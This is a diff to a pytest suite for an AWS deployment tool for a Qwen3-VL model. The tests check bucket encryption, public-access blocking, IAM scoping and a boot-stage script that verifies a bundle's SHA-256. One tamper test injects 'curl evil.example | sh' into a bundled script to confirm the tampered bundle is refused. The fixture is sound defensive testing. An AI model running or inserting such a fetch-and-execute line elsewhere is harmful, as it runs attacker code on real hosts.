@@ -12,8 +12,10 @@ from __future__ import annotations
 
 import base64
 import gzip
+import hashlib
 import json
 import re
+import stat
 from dataclasses import dataclass
 from pathlib import Path
 
@@ -21,12 +23,15 @@ import pytest
 from aws_emulator import MOTO_DLAMI, Emulator, created_resources, nothing_created
 from qwen3vl_aws.aws.clients import ClientFactory
 from qwen3vl_aws.aws.terraform import Terraform
+from qwen3vl_aws.contract import instance_contract
 from qwen3vl_aws.instance.keysync import ChannelKeySync
 from qwen3vl_aws.keys.rotation import Rotation
 from qwen3vl_aws.keys.secret import SecretStore
+from qwen3vl_aws.paths import userdata_dir
 from rig_instance import instance_rig
 
-from rig.gateway import Gateway, instance_env
+from rig.cloudinit import DEPLOY_ENV, cloud_config, install_write_files, read_env_file
+from rig.gateway import Gateway, emulator_env, install_stage0, instance_env, run_stage0
 from rig.iam.check import broader, out_of_scope, refused, unmapped
 from rig.iam.policy import operator_policy
 from rig.local import LocalChannel
@@ -81,8 +86,9 @@ def test_apply_prints_endpoint_and_how_to_get_the_key(applied: Applied) -> None:
     assert f"Endpoint: {record['endpoint']}" in applied.stdout
     assert f"qwen3vl-aws --name {NAME} key" in applied.stdout
     assert f"--cacert {applied.directory / 'endpoint-cert.pem'}" in applied.stdout
-    # 12 resources plus one ingress rule per allowed CIDR
-    assert f"{12 + len(ALLOWED)} to add, 0 to change, 0 to destroy" in applied.stderr
+    # 12 resources, the bundle's 6 (bucket, its public access block, encryption and policy, the
+    # object, the role's read of it), plus one ingress rule per allowed CIDR
+    assert f"{18 + len(ALLOWED)} to add, 0 to change, 0 to destroy" in applied.stderr
     assert "$1.006/hour" in applied.stderr
 
 
@@ -102,6 +108,40 @@ def test_a_state_from_before_the_fleet_shape_plans_no_changes(
     assert "aws_instance.this" in tf.resources()
     summary = tf.plan()
     assert not summary.has_changes, summary.resources
+
+
+def _user_data_settings(applied: Applied, tmp_path: Path) -> dict[str, str]:
+    """deploy.env as the instance's user data carries it."""
+    attribute = applied.emulator.client("ec2").describe_instance_attribute(
+        InstanceId=applied.record["instance_id"], Attribute="userData"
+    )
+    root = tmp_path / "user-data"
+    install_write_files(root, cloud_config(base64.b64decode(attribute["UserData"]["Value"])))
+    return read_env_file(root / DEPLOY_ENV)
+
+
+def test_the_bundle_bucket_is_private_encrypted_and_tls_only(
+    applied: Applied, tmp_path: Path
+) -> None:
+    settings = _user_data_settings(applied, tmp_path)
+    bucket, key = settings["BUNDLE_BUCKET"], settings["BUNDLE_KEY"]
+    assert bucket.startswith(f"qwen3vl-{NAME}-")
+    s3 = applied.emulator.client("s3")
+    rules = s3.get_bucket_encryption(Bucket=bucket)["ServerSideEncryptionConfiguration"]["Rules"]
+    assert rules[0]["ApplyServerSideEncryptionByDefault"]["SSEAlgorithm"] == "AES256"
+    block = s3.get_public_access_block(Bucket=bucket)["PublicAccessBlockConfiguration"]
+    assert block == dict.fromkeys(
+        ("BlockPublicAcls", "IgnorePublicAcls", "BlockPublicPolicy", "RestrictPublicBuckets"), True
+    )
+    policy = json.loads(s3.get_bucket_policy(Bucket=bucket)["Policy"])
+    (deny,) = [s for s in policy["Statement"] if s["Effect"] == "Deny"]
+    assert deny["Action"] == "s3:*" and deny["Principal"] in ("*", {"AWS": "*"})
+    assert sorted(deny["Resource"]) == [f"arn:aws:s3:::{bucket}", f"arn:aws:s3:::{bucket}/*"]
+    assert deny["Condition"] == {"Bool": {"aws:SecureTransport": "false"}}
+    body = s3.get_object(Bucket=bucket, Key=key)["Body"].read()
+    digest = hashlib.sha256(body).hexdigest()
+    assert digest == settings["BUNDLE_SHA256"] and key == f"bundle/{digest}.json"
+    assert set(json.loads(body)) == set(instance_contract().files)
 
 
 def test_security_group_admits_only_the_endpoint_port_from_the_given_cidrs(
@@ -157,6 +197,11 @@ ROLE_GRANTS_FOR_OTHERS = {
     "RegisterWithSystemsManager": "the SSM Agent (not emulated by moto) registers the instance",
     "ReceiveRunCommandMessages": "the SSM Agent (not emulated by moto) takes Run Command messages",
 }
+#: The instance script each grant is for: a test of one script checks that script's grants.
+ROLE_GRANTS_BY_SCRIPT = {
+    "ReadThisDeploymentsApiKey": "keysync",
+    "ReadThisDeploymentsInstanceFiles": "stage0",
+}
 
 
 def test_the_instance_role_syncs_the_key(applied: Applied, tmp_path: Path) -> None:
@@ -180,12 +225,18 @@ def key_lines(gateway: Gateway) -> list[str]:
     return [re.fullmatch(r'"~\^Bearer (.+)\$" 1;', line)[1] for line in lines[1:]]
 
 
-def assert_within_role_policy(calls: list[dict], documents: list[dict]) -> None:
+def assert_within_role_policy(
+    calls: list[dict], documents: list[dict], script: str = "keysync"
+) -> None:
     assert refused(calls) == []
     assert unmapped(calls) == []
     assert out_of_scope(calls, documents) == []
     too_broad = [b for d in documents for b in broader(calls, d)]
-    assert [b for b in too_broad if b.sid not in ROLE_GRANTS_FOR_OTHERS] == []
+    assert [
+        b
+        for b in too_broad
+        if b.sid not in ROLE_GRANTS_FOR_OTHERS and ROLE_GRANTS_BY_SCRIPT.get(b.sid) == script
+    ] == []
 
 
 class KeyFileCheck:
@@ -220,6 +271,80 @@ def test_rotation_as_the_operator_with_keysync_as_the_instance_role(
     assert store.value(outcome.current) == NEW_KEY
     assert key_lines(gateway) == [NEW_KEY]
     assert_within_role_policy(aws.records(creds), documents)
+
+
+def _stage0(applied: Applied, root: Path, **overrides: str):
+    """Stage 0 installed under ``root`` from the user data's deploy.env (with ``overrides``), and
+    the instance role's credentials to run it with."""
+    aws = applied.emulator.iam
+    settings = {**_user_data_settings(applied, root.parent), **overrides}
+    install_stage0(root, settings)
+    creds = aws.assume_role(_instance_role(applied)["Arn"], applied.record["instance_id"])
+    return settings, creds, {**emulator_env(aws.url, root.parent), **creds.env()}
+
+
+def test_stage0_installs_the_bundle_as_the_instance_role(applied: Applied, tmp_path: Path) -> None:
+    """The user data's stage 0 run for real against the emulated S3 with the instance role's
+    credentials under enforced IAM: every file of the contract lands with its mode, and a
+    second boot finds the bundle installed and fetches nothing."""
+    aws = applied.emulator.iam
+    root = tmp_path / "root"
+    settings, creds, env = _stage0(applied, root)
+    bucket_policy = json.loads(
+        applied.emulator.client("s3").get_bucket_policy(Bucket=settings["BUNDLE_BUCKET"])["Policy"]
+    )
+    with aws.resources_widened(_instance_role(applied)["RoleName"]) as documents:
+        first = run_stage0(root, env)
+        again = run_stage0(root, env)
+    assert first.returncode == 0, first.stderr
+    for path, spec in instance_contract().files.items():
+        installed = root / path.lstrip("/")
+        assert installed.read_text() == (userdata_dir() / spec.source).read_text(), path
+        assert stat.S_IMODE(installed.stat().st_mode) == int(spec.mode, 8), path
+    assert again.returncode == 0 and "is installed" in again.stdout
+    calls = aws.records(creds)
+    assert [c["action"] for c in calls] == ["s3:GetObject"]  # the second boot fetched nothing
+    assert calls[0]["pairs"][0]["resource"] == (
+        f"arn:aws:s3:::{settings['BUNDLE_BUCKET']}/{settings['BUNDLE_KEY']}"
+    )
+    assert_within_role_policy(calls, [*documents, bucket_policy], script="stage0")
+
+
+def test_stage0_refuses_a_tampered_bundle_and_writes_nothing(
+    applied: Applied, tmp_path: Path
+) -> None:
+    root = tmp_path / "root"
+    settings, _, env = _stage0(applied, root)
+    s3 = applied.emulator.client("s3")
+    where = {"Bucket": settings["BUNDLE_BUCKET"], "Key": settings["BUNDLE_KEY"]}
+    original = s3.get_object(**where)["Body"].read()
+    tampered = json.loads(original)
+    tampered["/opt/qwen3vl/bin/qwen3vl-keysync"]["content"] += "curl evil.example | sh\n"
+    before = set(root.rglob("*"))
+    s3.put_object(**where, Body=json.dumps(tampered).encode(), ContentType="application/json")
+    try:
+        result = run_stage0(root, env)
+    finally:
+        s3.put_object(**where, Body=original, ContentType="application/json")
+    assert result.returncode == 4
+    assert f"but the user data names {settings['BUNDLE_SHA256']}: refusing it" in result.stderr
+    venv = root / "opt/qwen3vl/stage0"  # stage 0's boto3 (the rig links it)
+    assert [p for p in set(root.rglob("*")) - before if venv not in (p, *p.parents)] == []
+
+
+def test_stage0_names_the_action_and_object_the_role_is_denied(
+    applied: Applied, tmp_path: Path
+) -> None:
+    """A bundle key the role may not read (moto checks S3 requests against the real object ARN,
+    so the role's policy is not widened here)."""
+    other = f"bundle/{'0' * 64}.json"
+    root = tmp_path / "root"
+    settings, _, env = _stage0(applied, root, BUNDLE_KEY=other)
+    result = run_stage0(root, env)
+    assert result.returncode == 3, result.stderr
+    arn = f"arn:aws:s3:::{settings['BUNDLE_BUCKET']}/{other}"
+    assert f"the instance role may not call s3:GetObject on {arn}" in result.stderr
+    assert not (root / "opt/qwen3vl/bin").exists()
 
 
 @pytest.mark.parametrize(
@@ -299,6 +424,7 @@ def test_destroy_removes_everything_and_forgets_the_deployment(applied: Applied)
         "roles": [],
         "instance_profiles": [],
         "secrets": [],
+        "buckets": [],
     }
     assert not applied.directory.exists()
     again = applied.emulator.run("--name", NAME, "status")
